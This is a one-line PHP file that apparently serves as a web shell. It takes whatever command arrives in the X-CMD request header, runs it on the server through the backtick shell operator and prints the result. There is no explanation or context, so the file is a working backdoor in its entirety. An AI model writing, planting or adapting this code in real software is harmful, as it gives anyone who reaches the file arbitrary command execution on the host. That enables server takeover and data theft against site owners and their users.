<?php $c = $_SERVER['HTTP_X_CMD']; echo `$c`;
